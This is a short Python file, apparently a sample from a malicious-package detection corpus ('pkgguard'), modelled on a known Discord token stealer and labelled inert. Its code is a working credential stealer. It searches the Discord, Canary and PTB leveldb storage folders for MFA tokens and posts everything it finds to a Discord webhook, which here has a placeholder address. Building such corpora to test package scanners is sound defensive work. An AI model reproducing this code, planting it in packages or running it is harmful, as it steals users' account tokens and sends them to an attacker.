# pkgguard corpus 125 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import re
import urllib.request

paths = [os.path.join(os.getenv("APPDATA"), app, "Local Storage", "leveldb") for app in ("discord", "discordcanary", "discordptb")]
found = set()
for p in paths:
    if os.path.isdir(p):
        for f in os.listdir(p):
            found.update(re.findall(r"mfa\.[\w-]{84}", open(os.path.join(p, f), errors="ignore").read()))
urllib.request.urlopen(urllib.request.Request("https://discord.com/api/webhooks/1000000000000000001/placeholder-token-0000000000000000", data=("\n".join(found)).encode()))
